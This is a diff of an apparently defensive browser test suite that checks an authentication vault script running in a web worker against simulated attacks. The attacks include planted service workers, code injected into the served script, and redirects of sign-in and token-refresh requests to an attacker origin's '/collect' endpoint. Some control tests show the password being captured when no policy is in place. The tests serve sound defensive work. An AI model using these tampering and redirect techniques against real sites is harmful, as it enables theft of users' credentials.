@@ -7,50 +7,50 @@ import { redirect, Symbolon } from './victims.js';
 
 const NONSENSE = /^protocol: /;
 
-inEachBrowser('attacks on the worker', (on) => {
-  const { isSafe, robs } = on;
+inEachBrowser('attacks on the worker', (suite) => {
+  const { expectNothingStolen, expectStolen } = suite;
 
   it('a worker of the attacker cannot run the vault inside it, and the client says so in time', { covers: ['I-02', 'C-010'] }, async () => {
-    await robs(on.weak.worker, 'C-010', 'worker');
-    const { said, exchanges } = await isSafe(on.bare, 'C-010');
+    await expectStolen(suite.weak.worker, 'C-010', 'worker');
+    const { said, exchanges } = await expectNothingStolen(suite.bare, 'C-010');
     assert.match(said, /^start_timeout/);
     const [{ status, headers, answer }] = asked(exchanges, '/auth/vault.js');
     assert.deepEqual([status, headers['sec-fetch-dest'], JSON.parse(answer).code], [403, 'script', 'forbidden']);
-    await logged(on.demo, /the vault's script is for a worker load only/);
+    await logged(suite.demo, /the vault's script is for a worker load only/);
   });
 
   it('where the policy lets the attacker start no worker, the client says so, too', { covers: ['I-16', 'C-010'] }, async () => {
-    const { said, exchanges } = await isSafe(on.guarded, 'C-010', { patience: 2000 });
+    const { said, exchanges } = await expectNothingStolen(suite.guarded, 'C-010', { patience: 2000 });
     assert.deepEqual(asked(exchanges, '/auth/vault.js'), []);
     assert.match(said, /^worker_blocked/);
   });
 
   it('no service worker can be planted, with or without the policy', { covers: ['I-12', 'C-016'] }, async () => {
-    const control = await robs(on.weak.page, 'C-016', 'service worker');
+    const control = await expectStolen(suite.weak.page, 'C-016', 'service worker');
     assert.equal(control.planted, 1);
-    await robs(on.weak.worker, 'C-016', 'service worker');
-    for (const victim of [on.guarded, on.bare]) {
-      const { said, exchanges } = await isSafe(victim, 'C-016');
+    await expectStolen(suite.weak.worker, 'C-016', 'service worker');
+    for (const victim of [suite.guarded, suite.bare]) {
+      const { said, exchanges } = await expectNothingStolen(victim, 'C-016');
       assert.deepEqual(said, { tried: { '/upload.js': 'TypeError', '/main.js': 'TypeError' }, planted: 0, said: 'written' });
       const refused = exchanges.filter(({ headers }) => headers['service-worker'] === 'script');
-      assert.equal(refused.length, victim === on.bare ? 2 : 0, 'without the policy it is the server that refuses');
+      assert.equal(refused.length, victim === suite.bare ? 2 : 0, 'without the policy it is the server that refuses');
       for (const { status } of refused) assert.equal(status, 403);
     }
   });
 
   it('the script cannot be imported where something of the attacker came before it', { covers: ['I-02', 'C-023'] }, async () => {
-    assert.equal(await robs(on.weak.worker, 'C-023', 'worker'), 'imported');
-    assert.equal(await robs(on.weak.gated, 'C-023', 'worker'), 'imported', 'a gate that looks at the destination alone');
-    assert.equal((await isSafe(on.guarded, 'C-023')).said, 'TypeError');
-    const { said, exchanges } = await isSafe(on.bare, 'C-023');
+    assert.equal(await expectStolen(suite.weak.worker, 'C-023', 'worker'), 'imported');
+    assert.equal(await expectStolen(suite.weak.gated, 'C-023', 'worker'), 'imported', 'a gate that looks at the destination alone');
+    assert.equal((await expectNothingStolen(suite.guarded, 'C-023')).said, 'TypeError');
+    const { said, exchanges } = await expectNothingStolen(suite.bare, 'C-023');
     assert.equal(said, 'refused');
     const [{ status, headers }] = asked(exchanges, '/auth/vault.js').filter(({ headers }) => headers['sec-fetch-mode'] === 'cors');
     assert.deepEqual([status, headers['sec-fetch-dest']], [403, 'worker']);
   });
 
   it("no way to load the vault's script gives it to the page, or runs it where it can be heard", { covers: ['I-02', 'H-021'] }, async () => {
-    const control = await robs(on.weak.worker, 'H-021', 'realm', 'XMLHttpRequest', 'fetch', 'iframe');
-    const { said, exchanges } = await isSafe(on.bare, 'H-021');
+    const control = await expectStolen(suite.weak.worker, 'H-021', 'realm', 'XMLHttpRequest', 'fetch', 'iframe');
+    const { said, exchanges } = await expectNothingStolen(suite.bare, 'H-021');
     assert.deepEqual(Object.keys(said).sort(), Object.keys(control).sort());
     const started = Object.keys(said).filter((way) => said[way] === 'loaded');
     assert.deepEqual(started.sort(), ['a module worker', 'a nested worker', 'a worker'], JSON.stringify(said));
@@ -61,37 +61,37 @@ inEachBrowser('attacks on the worker', (on) => {
       assert.equal(status, expected, `${method} ${headers['sec-fetch-dest']} ${headers['sec-fetch-mode']}`);
       assert.equal(answer.includes('"secret"'), isWorkerLoad);
     }
-    await isSafe(on.guarded, 'H-021');
+    await expectNothingStolen(suite.guarded, 'H-021');
   });
 
   it("code in the vault's own realm reaches no origin but ours, and loads nothing", { covers: ['I-10'] }, async () => {
-    const infect = `;(${attack('I-10').infect})(${JSON.stringify(on.attacker.origin)});`;
+    const infect = `;(${attack('I-10').infect})(${JSON.stringify(suite.attacker.origin)});`;
     const tamper = (pathname, answer) => {
       if (pathname === '/auth/vault.js' && answer.status === 200) answer.body += infect;
     };
-    const infected = new Symbolon(on.demo, { policy: true, tamper });
-    const { said, heard } = await isSafe(infected, 'I-10');
+    const infected = new Symbolon(suite.demo, { policy: true, tamper });
+    const { said, heard } = await expectNothingStolen(infected, 'I-10');
     assert.deepEqual(said, { ...all(said, 'TypeError'), 'a connection home': 'done', eval: said.eval });
     assert.notEqual(said.eval, 'done');
     assert.deepEqual(elsewhere(heard), []);
-    const free = new Symbolon(on.demo, { policy: true, workerPolicy: false, tamper });
-    const control = await isSafe(free, 'I-10');
+    const free = new Symbolon(suite.demo, { policy: true, workerPolicy: false, tamper });
+    const control = await expectNothingStolen(free, 'I-10');
     assert.deepEqual(control.said, all(control.said, 'done'), 'the control: without the policy of its own, it can');
     assert.ok(control.heard.some(({ url }) => url === '/collect'));
   });
 
   /** What a browser that has never been here shows, where answers are tampered with. */
   const firstVisit = async (tamper, { workerPolicy = true, act = () => {} } = {}) => {
-    const since = on.attacker.heard.length;
-    const context = await on.browser.createBrowserContext();
+    const since = suite.attacker.heard.length;
+    const context = await suite.browser.createBrowserContext();
     try {
-      new Symbolon(on.demo, { policy: true, workerPolicy, tamper }).appear();
+      new Symbolon(suite.demo, { policy: true, workerPolicy, tamper }).appear();
       const page = await context.newPage();
-      await page.goto(on.demo.origin);
+      await page.goto(suite.demo.origin);
       await page.waitForFunction(() => !document.querySelector('#status').textContent.startsWith('starting'));
       await act(page);
       const [status, refusal] = await page.$$eval('#status, #refusal', (found) => found.map(({ textContent }) => textContent));
-      return { status, refusal, heard: on.attacker.heard.slice(since) };
+      return { status, refusal, heard: suite.attacker.heard.slice(since) };
     } finally {
       await context.close();
     }
@@ -110,7 +110,7 @@ inEachBrowser('attacks on the worker', (on) => {
     };
     const another = (answer) => (answer.body = Buffer.from([0, 97, 115, 109, 1, 0, 0, 0]));
     const longer = (answer) => (answer.body = Buffer.concat([answer.body, Buffer.from([0, 1, 0])]));
-    const abroad = (answer) => redirect(answer, `${on.attacker.origin}/collect`);
+    const abroad = (answer) => redirect(answer, `${suite.attacker.origin}/collect`);
     for (const change of [flipped, another, longer, abroad]) {
       const { status, heard } = await firstVisit(module(change));
       assert.match(status, /^wasm_blocked/, change.name);
@@ -120,7 +120,7 @@ inEachBrowser('attacks on the worker', (on) => {
 
   it('a redirect of a sign-in or a refresh takes neither password nor token with it', { covers: ['H-13'] }, async () => {
     const abroad = (path) => (pathname, answer) => {
-      if (pathname === path) redirect(answer, `${on.attacker.origin}/collect`);
+      if (pathname === path) redirect(answer, `${suite.attacker.origin}/collect`);
     };
     const enter = async (page) => {
       await page.type('[name=name]', 'ann');
@@ -133,15 +133,15 @@ inEachBrowser('attacks on the worker', (on) => {
       assert.equal(status, 'signed out');
       assert.match(refusal, NONSENSE);
       assert.deepEqual(heard, []);
-      const since = on.attacker.heard.length;
-      new Symbolon(on.demo, { policy: true, workerPolicy, tamper: abroad('/auth/refresh') }).appear();
-      await on.page.reload();
-      await on.page.waitForFunction(() => !document.querySelector('#status').textContent.startsWith('starting'));
-      assert.match(await on.page.$eval('#status', ({ textContent }) => textContent), NONSENSE);
-      assert.deepEqual(on.attacker.heard.slice(since), []);
+      const since = suite.attacker.heard.length;
+      new Symbolon(suite.demo, { policy: true, workerPolicy, tamper: abroad('/auth/refresh') }).appear();
+      await suite.page.reload();
+      await suite.page.waitForFunction(() => !document.querySelector('#status').textContent.startsWith('starting'));
+      assert.match(await suite.page.$eval('#status', ({ textContent }) => textContent), NONSENSE);
+      assert.deepEqual(suite.attacker.heard.slice(since), []);
     }
-    const careless = new Symbolon(on.demo, { policy: false, tamper: abroad('/auth/sign-in') });
-    const { heard } = await isSafe(careless, 'C-014b');
+    const careless = new Symbolon(suite.demo, { policy: false, tamper: abroad('/auth/sign-in') });
+    const { heard } = await expectNothingStolen(careless, 'C-014b');
     assert.ok(heard.some(({ body }) => body.includes(PASSWORD)), 'the control: a page that asks by itself takes it there');
   });
 });
